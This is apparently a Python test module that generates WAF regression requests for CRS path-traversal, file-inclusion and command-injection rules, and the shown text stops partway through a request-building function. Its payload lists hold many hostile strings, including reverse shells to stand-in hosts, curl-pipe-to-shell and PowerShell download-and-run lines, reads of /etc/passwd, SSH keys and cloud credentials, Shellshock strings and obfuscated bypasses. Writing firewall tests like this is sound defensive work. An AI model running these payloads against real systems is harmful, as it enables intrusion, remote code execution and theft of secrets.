"""Blind positive regression tests for the CRS 3.3.4 path-traversal, local/remote file inclusion and remote
command execution titles (930100-932200, paranoia levels 1-2) and the request-rule titles CRS 4.x added to
those families, written by an eighth author from the rule titles alone, with benign requests that carry the
same words innocently.

Angle: a careful rule author's positive tests. For each detection title, the canonical attack the title names,
then one test per alternative of the title's family (each command, shell construct, file, wrapper, parameter
name or protocol the author knows), then the variants a good rule must still catch: other quoting and casing,
whitespace and comment substitutes, concatenation, and encodings a server decodes (URL, double URL, overlong
UTF-8, IIS %u, HTML entities, unicode escapes in JSON). The payloads are shaped as they appear against real
applications of many kinds (PHP CMSs, Java servlet containers, Node APIs, CGI scripts, IIS), not only ours.

Families and sub-families (one sub-family per detection title):
  lfi: path-traversal-encoded (930100), path-traversal (930110), os-file-access (930120),
       restricted-file-access (930130), os-file-access-headers (4.x), path-traversal-triple-dot (4.x)
  rfi: rfi-url-ip-address (931100), rfi-vulnerable-param-name (931110), rfi-trailing-question-mark (931120),
       rfi-off-domain-reference (931130)
  rce: unix-command-injection (932100), unix-command-injection-more-commands (932105),
       windows-command-injection (932110), windows-command-injection-more-commands (932115),
       windows-powershell-command (932120), unix-shell-expression (932130), windows-for-if-command (932140),
       direct-unix-command-execution (932150), unix-shell-code (932160), shellshock-headers (932170),
       shellshock-args (932171), restricted-file-upload (932180), rce-bypass-technique (932200), and the 4.x
       titles unix-command-injection-no-evasion, unix-command-injection-evasion, unix-shell-alias-invocation,
       unix-shell-history-invocation, unix-pipe-short-commands, sqlite-system-command,
       smtp-imap-pop3-command, windows-command-injection-evasion, unix-shell-code-headers,
       direct-unix-absolute-path-wildcards.

Placements: every payload is sent twice. Once to our real routes (query of /api/users, form of
/admin/users/search with csrf_token, JSON of /api/users, cookie, User-Agent, Referer, another header, a parameter
name, an XML body, a multipart field or filename, the URL path), and once the way a WAF's regression suite sends
it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent,
the Referer, a custom header or a cookie. Titles tied to one part of the request keep to it (Shellshock in headers
or in arguments, the header titles in headers, uploads in a multipart filename or an upload header, the RFI
parameter names as the parameter's name).

Authorship and independence: written from general knowledge and the detection titles alone; no rule, rule
engine, ruleset regression test or public payload list was read. Measured once on unchanged code, payloads not
changed after the measurement. Deterministic: no clock, no randomness; placements rotate by index.
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "seventyninth"


class Raw(str):
    """A payload already in its wire form (percent-encoded by the attacker): placed in URLs and forms verbatim."""


class JsonU(str):
    """A payload written with JSON unicode escapes: the text of a JSON string literal, sent in JSON bodies only."""


P = str | Raw | JsonU

# ---------------------------------------------------------------------------------------------------------------
# lfi
# ---------------------------------------------------------------------------------------------------------------
PATH_TRAVERSAL_ENCODED: list[P] = [
    Raw("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    Raw("%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    Raw("..%2f..%2f..%2f..%2fwindows%2fwin.ini"),
    Raw("%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    Raw("..%252f..%252f..%252f..%252fboot.ini"),
    Raw("..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    Raw("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts"),
    Raw("..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    Raw("%2e%2e%5c%2e%2e%5c%2e%2e%5cinetpub%5cwwwroot%5cweb.config"),
    Raw("%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    Raw("..%u2216..%u2216..%u2216windows%u2216win.ini"),
    Raw("%25c0%25ae%25c0%25ae%25c0%25afetc%25c0%25afpasswd"),
    Raw("..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    Raw("%2E%2E%2F%2E%2E%2FWEB-INF%2Fweb.xml"),
    JsonU("\\u002e\\u002e\\u002f\\u002e\\u002e\\u002f\\u002e\\u002e\\u002fetc\\u002fpasswd"),
]

PATH_TRAVERSAL: list[P] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "/var/www/html/../../../etc/shadow",
    "images/../../../../../../proc/self/environ",
    "..;/..;/..;/WEB-INF/web.xml",
    Raw("../../../../../../etc/passwd%00.jpg"),
    "..\\/..\\/..\\/etc/passwd",
    "..//..//..//..//etc/hosts",
    "../../../../../../../../../../../../usr/local/apache2/conf/httpd.conf",
    "templates/../../../../config/database.yml",
    "..\\..\\..\\..\\..\\inetpub\\wwwroot\\global.asa",
    "&#46;&#46;&#47;&#46;&#46;&#47;&#46;&#46;&#47;etc&#47;passwd",
    "&#x2e;&#x2e;&#x2f;&#x2e;&#x2e;&#x2f;etc&#x2f;shadow",
]

OS_FILE_ACCESS: list[P] = [
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/etc/group",
    "c:\\boot.ini",
    "C:/Windows/win.ini",
    "/root/.ssh/id_rsa",
    "/home/deploy/.bash_history",
    "/var/log/apache2/access.log",
    "/proc/self/cmdline",
    "/etc/mysql/my.cnf",
    "/etc/httpd/conf/httpd.conf",
    Raw("%2fetc%2fpasswd"),
    "/etc//./shadow",
    "C:\\Windows\\System32\\config\\SAM",
    "file:///etc/passwd",
]

RESTRICTED_FILE_ACCESS: list[P] = [
    ".env",
    ".git/config",
    ".git/HEAD",
    ".htaccess",
    ".htpasswd",
    "web.config",
    "WEB-INF/web.xml",
    ".svn/entries",
    ".DS_Store",
    "wp-config.php~",
    ".npmrc",
    ".aws/credentials",
    ".idea/workspace.xml",
    ".hg/hgrc",
    Raw("%2egit%2fconfig"),
    ".ENV",
]

OS_FILE_ACCESS_HEADERS: list[P] = [
    "/etc/passwd",
    "../../../../etc/passwd",
    "/proc/self/environ",
    "c:\\windows\\win.ini",
    "/etc/shadow",
    "file:///etc/passwd",
    "/var/log/nginx/access.log",
    "/root/.ssh/authorized_keys",
    "Mozilla/5.0 (/etc/hosts)",
    "/etc/group",
    "/home/ubuntu/.bash_history",
    "/proc/self/fd/0",
    Raw("..%2f..%2f..%2fetc%2fpasswd"),
]

PATH_TRAVERSAL_TRIPLE_DOT: list[P] = [
    "/.../.../.../etc/passwd",
    ".../.../.../windows/win.ini",
    "...\\...\\...\\boot.ini",
    "..../..../..../etc/passwd",
    Raw("%2e%2e%2e/%2e%2e%2e/%2e%2e%2e/etc/passwd"),
    "/.../...//etc/hosts",
    Raw("...%2f...%2f...%2fetc%2fpasswd"),
    Raw("..%2f.../..%2f.../etc/passwd"),
    "/..../..../etc/shadow",
    "....\\....\\windows\\system.ini",
    ".../.../.../.../proc/self/environ",
    Raw("%252e%252e%252e%252f%252e%252e%252e%252fetc%252fpasswd"),
    "...//...//...//etc/passwd",
]

# ---------------------------------------------------------------------------------------------------------------
# rfi
# ---------------------------------------------------------------------------------------------------------------
RFI_URL_IP: list[P] = [
    "http://203.0.113.7/shell.txt",
    "https://198.51.100.23/c99.php",
    "ftp://192.0.2.14/backdoor.txt",
    "http://203.0.113.7:8080/r57.txt?",
    "http://3405803783/x.txt",
    "HTTP://198.51.100.23/inc.php",
    "http://[2001:db8::1]/shell.txt",
    Raw("http%3a%2f%2f203.0.113.7%2fshell.txt"),
    Raw("http:%252f%252f198.51.100.9%252fid.txt"),
    "\\\\192.0.2.14\\share\\shell.php",
    "hTtP://203.0.113.66/images/logo.gif?",
    "http://user@192.0.2.44/evil.php",
    "https://198.51.100.5/wp-content/uploads/x.txt%00",
]

# (parameter name, value): the parameter's name is the point of 931110
RFI_PARAM_NAMES: list[tuple[str, P]] = [
    ("mosConfig_absolute_path", "http://evil.example/shell.txt?"),
    ("_CONF[path]", "http://attacker.example/c99.txt"),
    ("phpbb_root_path", "http://attacker.example/r57.txt"),
    ("include", "https://evil.example/inc.txt"),
    ("page", "http://attacker.example/shell"),
    ("file", "ftp://attacker.example/x.txt"),
    ("inc", "http://evil.example/x.php"),
    ("path", "http://evil.example/"),
    ("GLOBALS[appRoot]", "http://evil.example/a.txt"),
    ("template", "HTTPS://evil.example/tpl.txt"),
    ("dir", "http://evil.example/admin"),
    ("root_path", "http://evil.example/s.txt"),
    ("module", "http://evil.example/m.txt"),
    ("cfg[path]", Raw("http%3A%2F%2Fevil.example%2Fx.txt")),
]

RFI_TRAILING_QMARK: list[P] = [
    "http://evil.example/shell.txt?",
    "https://attacker.example/c99.txt??",
    "ftp://attacker.example/r.txt?",
    Raw("http://evil.example/shell.txt%3f"),
    Raw("http://evil.example/shell.txt%253f"),
    "HTTP://EVIL.EXAMPLE/SHELL.TXT?",
    "http://evil.example:8000/s.txt?",
    "//evil.example/shell.txt?",
    "http://evil.example/a.jpg?",
    Raw("https://evil.example/x.txt?%00"),
    "http://evil.example/?",
    "https://raw.attacker.example/u/p.php?",
]

RFI_OFF_DOMAIN: list[P] = [
    "http://evil.example/shell.txt",
    "https://attacker.example/payload",
    "ftp://files.attacker.example/x.txt",
    "ftps://attacker.example/x",
    "HtTpS://EVIL.example/s.php",
    "http://evil.example@attacker.example/x",
    Raw("http%3A%2F%2Fevil.example%2Fx.php"),
    Raw("http:%2F%2Fevil.example%2Fshell"),
    Raw("https://attacker.example/x.txt%00"),
    "//attacker.example/shell.txt",
    "http:\\\\attacker.example\\x.txt",
    "https://pastebin.example/raw/abc123",
    "http://evil.example:443/s.txt",
    JsonU("http:\\u002f\\u002fevil.example\\u002fshell.txt"),
]

# ---------------------------------------------------------------------------------------------------------------
# rce
# ---------------------------------------------------------------------------------------------------------------
UNIX_CMD: list[P] = [
    ";id",
    "| id",
    "|| whoami",
    "&& cat /etc/passwd",
    "`id`",
    "$(whoami)",
    "127.0.0.1; uname -a",
    Raw("x%0aid"),
    "foo;ls -la /",
    "1|nc attacker.example 4444 -e /bin/sh",
    "test && ps aux",
    "; echo vulnerable",
    "a;/usr/bin/id",
    "';wget http://evil.example/x.sh -O /tmp/x.sh;'",
    "\";curl http://evil.example|sh;\"",
]

UNIX_CMD_MORE: list[P] = [
    ";ifconfig",
    "|netstat -an",
    "&& python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    "; perl -e 'exec \"/bin/sh\"'",
    "| ruby -rsocket -e 'exit'",
    "; chmod 777 /tmp/x",
    "&& tail -n 5 /var/log/auth.log",
    "|base64 -d|sh",
    "; find / -perm -4000",
    "| awk 'BEGIN{system(\"id\")}'",
    "; crontab -l",
    "`sleep 10`",
    "$(ping -c 3 attacker.example)",
    "; nslookup attacker.example",
    Raw("%3Bhostname"),
]

WIN_CMD: list[P] = [
    "& dir",
    "| type C:\\Windows\\win.ini",
    "&& net user",
    "; ipconfig /all",
    "|| whoami /priv",
    "& net localgroup administrators",
    "127.0.0.1 & systeminfo",
    "| tasklist",
    "& cmd /c dir c:\\",
    "&& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
    "| copy c:\\inetpub\\wwwroot\\web.config c:\\temp\\a.txt",
    "& reg query HKLM\\SOFTWARE",
    "&& del /f /q c:\\temp\\*",
    Raw("%26%20ver"),
]

WIN_CMD_MORE: list[P] = [
    "& wmic process list brief",
    "| bitsadmin /transfer j http://evil.example/x.exe c:\\x.exe",
    "& cmd.exe /k echo pwned",
    "&& sc query",
    "| netstat -ano",
    "; schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
    "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "& mshta http://evil.example/a.hta",
    "| regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll",
    "&& net1 user hacker Winter2024 /add",
    "& nslookup attacker.example",
    "& ping -n 5 127.0.0.1",
    "| findstr /s /i secret *.config",
    "&& attrib +h c:\\x.exe",
]

POWERSHELL: list[P] = [
    "powershell -enc SQBFAFgA",
    "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"",
    "Invoke-Expression $x",
    "iex(iwr http://evil.example/p.ps1)",
    "Invoke-WebRequest -Uri http://evil.example/x.exe -OutFile x.exe",
    "Start-Process calc.exe",
    "Get-ChildItem C:\\Users",
    "; Get-Content C:\\Windows\\win.ini",
    "pwsh -c Get-Process",
    "& powershell -ExecutionPolicy Bypass -File x.ps1",
    "[System.Reflection.Assembly]::Load($b)",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "PoWeRsHeLl -EncodedCommand dwBoAG8AYQBtAGkA",
    "New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444)",
]

UNIX_SHELL_EXPR: list[P] = [
    "$(id)",
    "${IFS}",
    "`uname -a`",
    "$(</etc/passwd)",
    "<(cat /etc/passwd)",
    ">(nc attacker.example 80)",
    "${PATH:0:1}",
    "$(echo${IFS}aWQ=|base64${IFS}-d)",
    "cat${IFS}/etc/passwd",
    "$'\\x69\\x64'",
    "a$(printf 'x')b",
    "{cat,/etc/passwd}",
    Raw("%24%28id%29"),
    "$((16#41))",
]

WIN_FOR_IF: list[P] = [
    "for /f \"tokens=*\" %i in ('whoami') do echo %i",
    "& for %i in (*.config) do type %i",
    "for /l %x in (1,1,10) do ping -n 1 127.0.0.1",
    "if exist c:\\windows\\win.ini echo yes",
    "&& if not exist c:\\temp mkdir c:\\temp",
    "for /r c:\\ %f in (web.config) do type %f",
    "| FOR /F %a IN ('dir /b') DO del %a",
    "if defined USERNAME echo %USERNAME%",
    "if %errorlevel%==0 net user",
    "for /d %d in (c:\\users\\*) do dir %d",
    "cmd /v:on /c \"for /f %a in ('ver') do set x=%a\"",
    "IF EXIST C:\\inetpub (type C:\\inetpub\\wwwroot\\web.config)",
    Raw("for%20/f%20%25i%20in%20('whoami')%20do%20echo%20%25i"),
    "if  /i \"%os%\"==\"Windows_NT\" echo win",
]

DIRECT_UNIX: list[P] = [
    "cat /etc/passwd",
    "id",
    "whoami",
    "uname -a",
    "wget http://evil.example/x.sh",
    "curl -s http://evil.example/a | sh",
    "nc -e /bin/sh attacker.example 4444",
    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "ls -la /var/www",
    "python3 -c 'import os;os.system(\"id\")'",
    "ping -c 1 attacker.example",
    "sh -c id",
    "perl -e 'print 1'",
    "echo aWQ= | base64 -d | bash",
]

UNIX_SHELL_CODE: list[P] = [
    "/bin/sh",
    "/bin/bash -c id",
    "/usr/bin/perl",
    "/usr/bin/python",
    "/bin/netcat",
    "/usr/bin/wget",
    "/usr/bin/curl",
    "/bin/zsh",
    "/usr/local/bin/ruby",
    "/bin/busybox",
    "/usr/bin/env bash",
    "/bin//sh",
    Raw("%2fbin%2fsh"),
    "/usr/bin/php",
]

SHELLSHOCK_HEADERS: list[P] = [
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo; /usr/bin/id",
    "() { _; } >_[$($())] { id; }",
    "() { :; }; /bin/cat /etc/passwd",
    "() {:;}; wget http://evil.example/x",
    "() { x; }; ping -c 1 attacker.example",
    "() { 0; }; ls",
    "() {  :  ; } ; sleep 5",
    "() { :; }; echo Content-Type: text/plain; echo; id",
    "() { (a)=>\\' sh -c id",
    "() { :; }; /bin/sh -i >& /dev/tcp/203.0.113.5/80 0>&1",
    "() { :; }; curl http://evil.example",
]

SHELLSHOCK_ARGS: list[P] = [
    "() { :; }; /bin/id",
    "() { :;}; /usr/bin/whoami",
    Raw("%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fid"),
    "() { ignored; }; echo vulnerable",
    "() { :; }; /bin/bash -c \"nc attacker.example 4444\"",
    "(){ :;};id",
    "() { :; } ; uname",
    "() { a; }; env",
    Raw("()%20%7B%20:;%20%7D;%20/bin/ls"),
    "() { :; }; /usr/bin/curl -o /tmp/x http://evil.example/x",
    "() { :; }; exec /bin/sh",
    "() { _; }; /sbin/ifconfig",
]

RESTRICTED_UPLOAD: list[P] = [
    ".htaccess",
    ".htpasswd",
    "web.config",
    ".user.ini",
    "php.ini",
    "wp-config.php",
    "global.asa",
    "global.asax",
    ".htdigest",
    "config.yml",
    "config_dev.yml",
    "uploads/.HTACCESS",
    "Web.Config",
    "..\\web.config",
]

RCE_BYPASS: list[P] = [
    "c'a't /e't'c/pa's'swd",
    "c\"a\"t /etc/pa\"ss\"wd",
    "w\\h\\o\\a\\m\\i",
    "/???/c?t /???/p?ss??",
    "who$@ami",
    "w$()hoami",
    "/bin/c*t /etc/pass*",
    "wh''oami",
    "u\\name -a",
    "l\\s -l\\a",
    "/usr/b[i]n/wh[o]ami",
    "ca$@t /et$@c/pas$@swd",
    "/bin/e?ho${IFS}test",
    "i$9d",
]

UNIX_NO_EVASION: list[P] = [
    ";cat /etc/passwd",
    "|ls -la",
    "&&id",
    ";uname -a",
    "|wget http://evil.example/s",
    ";curl evil.example|bash",
    "||ps -ef",
    ";nc -lvp 4444",
    "&&touch /tmp/pwned",
    ";env",
    "|head -n1 /etc/shadow",
    ";kill -9 1",
    "&& git clone http://evil.example/r",
    "; sudo -l",
]

UNIX_EVASION: list[P] = [
    ";c''at /e''tc/pa''sswd",
    "|w\\ho\\am\\i",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";{cat,/etc/passwd}",
    "|cat</etc/passwd",
    ";c$@at /etc/passwd",
    ";/???/??t /???/??ss??",
    "$(printf '\\151\\144')",
    ";cat${IFS%??}/etc/passwd",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    "|`echo d2hvYW1p|base64 -d`",
    ";ca\\t$IFS/et\\c/pas\\swd",
    Raw("%3bc%27a%27t%20%2fetc%2fpasswd"),
    ";rev<<<'dwssap/cte/ tac'|sh",
]

UNIX_ALIAS: list[P] = [
    ";alias x='id';x",
    "alias ls='rm -rf /tmp/x'",
    "; unalias -a; id",
    "|alias",
    "alias cat=/bin/sh",
    "; builtin echo x",
    "$(alias l='ls -la'; l)",
    "&& alias sudo='sudo '; sudo id",
    ";\\whoami",
    "| \\cat /etc/passwd",
    Raw("alias%20x%3d%27id%27%3bx"),
    "; shopt -s expand_aliases; alias p=id; p",
    "; command -p id",
]

UNIX_HISTORY: list[P] = [
    ";!!",
    ";!-1",
    "|!$",
    "; history",
    ";!cat",
    "; fc -l",
    ";!-2:p",
    "; !ls",
    "|history -c",
    "$(history | tail -1)",
    ";!?passwd?",
    "; fc -s",
    ";!#",
    Raw("%3B%21-3"),
]

UNIX_PIPE_SHORT: list[P] = [
    "|id",
    ";ps",
    "|w",
    "&&ls",
    "|nc 203.0.113.5 4444",
    ";df",
    "|du -sh /",
    ";vi /etc/hosts",
    "&su",
    "|dd if=/dev/zero",
    ";sh",
    "|ed",
    ";xxd /etc/passwd",
    "`ls`",
]

SQLITE: list[P] = [
    ".system id",
    ".shell ls -la",
    ".shell cat /etc/passwd",
    ".load /tmp/evil.so",
    ".output /var/www/html/shell.php",
    ".import /etc/passwd t",
    ".read /tmp/x.sql",
    "1;\n.system uname -a",
    ".once /var/www/x.php",
    ".system 'curl evil.example'",
    ".open /etc/passwd",
    Raw("%0a.system%20id"),
    ".SYSTEM whoami",
]

MAIL_PROTOCOLS: list[P] = [
    Raw("x@example.org%0d%0aRCPT%20TO:<victim@example.org>"),
    Raw("a%0d%0aMAIL%20FROM:<x@evil.example>"),
    Raw("user%0d%0aDATA%0d%0aSubject:%20hi%0d%0a.%0d%0a"),
    "test\r\nHELO evil.example\r\n",
    Raw("%0d%0aEHLO%20attacker.example"),
    Raw("%0d%0aVRFY%20root"),
    Raw("INBOX%0d%0aA1%20SELECT%20INBOX"),
    Raw("INBOX\"%0d%0aa2%20FETCH%201:*%20(BODY[])"),
    Raw("%0d%0aA3%20CAPABILITY"),
    Raw("1%0d%0aa4%20DELETE%20INBOX"),
    Raw("%0d%0aUSER%20admin%0d%0aLIST"),
    Raw("%0d%0aRETR%201"),
    Raw("%0d%0aDELE%201"),
    "a\nQUIT\nSTAT",
]

WIN_EVASION: list[P] = [
    "& c^m^d /c di^r",
    "| p^o^w^e^r^s^h^e^l^l -c whoami",
    "& who\"\"ami",
    "&& %COMSPEC% /c ver",
    "& c:\\windows\\system32\\cmd.exe /c dir",
    "& set x=who&& set y=ami&& call %x%%y%",
    "& cmd /c \"set p=ipcon&&set q=fig&&call %p%%q%\"",
    "&ty^pe c:\\windows\\win.ini",
    "| %SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
    "& cmd,/c,whoami",
    "& c:\\windows\\sysnative\\cmd.exe /c net user",
    "& %ProgramData:~0,1%%ProgramData:~9,2% /c echo hi",
    "& powershell -c \"I`E`X (ne`w-obj`ect Net.WebClient)\"",
    "& cmd.exe/c ver",
]

UNIX_SHELL_CODE_HEADERS: list[P] = [
    "/bin/bash -c id",
    "Mozilla/5.0 /bin/sh -i",
    "$(curl http://evil.example/x.sh|sh)",
    "`wget -qO- http://evil.example/a|sh`",
    "/usr/bin/python -c 'import socket'",
    "; /bin/nc -e /bin/sh 203.0.113.5 4444",
    "/usr/bin/perl -e 'system(\"id\")'",
    "curl/7.68.0; /bin/busybox wget http://evil.example/m",
    "|/bin/cat /etc/passwd",
    "/bin/zsh",
    "/usr/bin/php -r 'system(\"id\");'",
    "/bin/echo $(id)",
]

DIRECT_ABSOLUTE: list[P] = [
    "/bin/cat /etc/passwd",
    "/usr/bin/id",
    "/bin/c?t /etc/p?sswd",
    "/b?n/c*t /e*c/p*d",
    "/???/?at /???/????wd",
    "/usr/bin/wh*mi",
    "/bin/ls -la /",
    "/sbin/ifconfig",
    "/usr/bin/nc 203.0.113.5 4444",
    "/usr/bin/who?mi",
    "/bin/[c]at /etc/[p]asswd",
    "/usr/sbin/useradd x",
    "/u*/b*/curl evil.example",
    "/bin/s[h]",
]

# ---------------------------------------------------------------------------------------------------------------
# placements
# ---------------------------------------------------------------------------------------------------------------
OURS_ALL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
            "param-name", "xml", "multipart-field", "path"]
RS_ALL = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
          "rs-header:X-Custom", "rs-cookie"]
OURS_HEADERS = ["header:User-Agent", "header:Referer", "header:X-Api-Version"]
RS_HEADERS = ["rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Custom"]
OURS_ARGS = ["query", "form", "json", "multipart-field", "xml"]
RS_ARGS = ["rs-query", "rs-form", "rs-json", "rs-raw-body", "rs-xml"]
OURS_UPLOAD = ["multipart-filename", "header:X-Filename"]
RS_UPLOAD = ["rs-multipart-filename", "rs-header:X-File-Name"]
OURS_RFI_NAMES = ["query", "form", "json", "cookie", "multipart-field"]
RS_RFI_NAMES = ["rs-query", "rs-form", "rs-json", "rs-cookie"]

OUR_NAMES = ["q", "name", "file", "path", "cmd", "host", "url", "template", "page", "lang"]
RFI_NAMES = ["page", "file", "include", "url", "path", "template", "src", "doc"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_GET_PATHS = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST_PATHS = ["/post", "/index.php", "/", "/api/v1/items", "/cgi-bin/test.cgi"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"

# (category, sub, payloads, our placements, regression-suite placements, parameter names)
Entry = tuple[str, str, list[P], list[str], list[str], list[str]]
TITLES: list[Entry] = [
    ("lfi", "path-traversal-encoded", PATH_TRAVERSAL_ENCODED, OURS_ALL, RS_ALL, OUR_NAMES),
    ("lfi", "path-traversal", PATH_TRAVERSAL, OURS_ALL, RS_ALL, OUR_NAMES),
    ("lfi", "os-file-access", OS_FILE_ACCESS, OURS_ALL, RS_ALL, OUR_NAMES),
    ("lfi", "restricted-file-access", RESTRICTED_FILE_ACCESS, OURS_ALL, RS_ALL, OUR_NAMES),
    ("lfi", "os-file-access-headers", OS_FILE_ACCESS_HEADERS, OURS_HEADERS, RS_HEADERS, OUR_NAMES),
    ("lfi", "path-traversal-triple-dot", PATH_TRAVERSAL_TRIPLE_DOT, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rfi", "rfi-url-ip-address", RFI_URL_IP, OURS_ALL, RS_ALL, RFI_NAMES),
    ("rfi", "rfi-trailing-question-mark", RFI_TRAILING_QMARK, OURS_ALL, RS_ALL, RFI_NAMES),
    ("rfi", "rfi-off-domain-reference", RFI_OFF_DOMAIN, OURS_ALL, RS_ALL, RFI_NAMES),
    ("rce", "unix-command-injection", UNIX_CMD, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-command-injection-more-commands", UNIX_CMD_MORE, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "windows-command-injection", WIN_CMD, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "windows-command-injection-more-commands", WIN_CMD_MORE, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "windows-powershell-command", POWERSHELL, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-shell-expression", UNIX_SHELL_EXPR, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "windows-for-if-command", WIN_FOR_IF, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "direct-unix-command-execution", DIRECT_UNIX, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-shell-code", UNIX_SHELL_CODE, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "shellshock-headers", SHELLSHOCK_HEADERS, OURS_HEADERS + ["cookie"], RS_HEADERS + ["rs-cookie"],
     OUR_NAMES),
    ("rce", "shellshock-args", SHELLSHOCK_ARGS, OURS_ARGS, RS_ARGS, OUR_NAMES),
    ("rce", "restricted-file-upload", RESTRICTED_UPLOAD, OURS_UPLOAD, RS_UPLOAD, OUR_NAMES),
    ("rce", "rce-bypass-technique", RCE_BYPASS, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-command-injection-no-evasion", UNIX_NO_EVASION, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-command-injection-evasion", UNIX_EVASION, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-shell-alias-invocation", UNIX_ALIAS, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-shell-history-invocation", UNIX_HISTORY, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-pipe-short-commands", UNIX_PIPE_SHORT, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "sqlite-system-command", SQLITE, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "smtp-imap-pop3-command", MAIL_PROTOCOLS, OURS_ALL, RS_ALL, ["to", "email", "mailbox", "folder"]),
    ("rce", "windows-command-injection-evasion", WIN_EVASION, OURS_ALL, RS_ALL, OUR_NAMES),
    ("rce", "unix-shell-code-headers", UNIX_SHELL_CODE_HEADERS, OURS_HEADERS, RS_HEADERS, OUR_NAMES),
    ("rce", "direct-unix-absolute-path-wildcards", DIRECT_ABSOLUTE, OURS_ALL, RS_ALL, OUR_NAMES),
]


def _allowed(place: str, p: P) -> bool:
    """Whether payload p can sit in `place` as an attacker sends it."""
    if isinstance(p, JsonU):
        return place in ("json", "rs-json")
    bare = place.removeprefix("rs-")
    if bare.startswith("header:") or bare == "cookie":
        return p.isascii() and not any(c in p for c in "\r\n\x00")
    if bare == "path":
        # a path that climbs above the root is refused by nginx before any WAF phase runs
        return ".." not in urllib.parse.unquote(p) and not any(c in p for c in "\r\n")
    if bare == "param-name":
        return not any(c in p for c in "\r\n")
    return True


def _enc(p: P) -> str:
    """The payload as it goes into a URL or a form body."""
    return str(p) if isinstance(p, Raw) else urllib.parse.quote(p, safe="")


def _qs(path: str, pairs: list[tuple[str, P]]) -> str:
    return path + "?" + "&".join(f"{_enc(k)}={_enc(v)}" for k, v in pairs)


def _headers(extra: dict[str, str] | None = None, content_type: str | None = None) -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if content_type:
        h["Content-Type"] = content_type
    return {**h, **(extra or {})}


def _multipart(fields: list[tuple[str, str]], upload: tuple[str, str, str] | None = None) -> str:
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in fields]
    if upload is not None:
        field, filename, content = upload
        fn = filename.replace("\"", "%22")
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{fn}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _json_body(pairs: list[tuple[str, P]]) -> str:
    """A JSON object; JsonU values keep their unicode escapes as written."""
    items = []
    for k, v in pairs:
        value = f"\"{v}\"" if isinstance(v, JsonU) else json.dumps(str(v), ensure_ascii=False)
        items.append(f"{json.dumps(k)}: {value}")
    return "{" + ", ".join(items) + "}"


def _xml_body(root: str, name: str, p: P) -> str:
    tag = name if name.isidentifier() else "value"
    return f"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<{root}><{tag}>{xml_escape(str(p))}</{tag}></{root}>"


def _ours(place: str, name: str, p: P) -> dict[str, Any]:
    """Payload p in one of our real routes."""
    if place == "query":
        return {"method": "GET", "uri": _qs("/api/users", [(name, p), ("page", "1")]), "body": "",
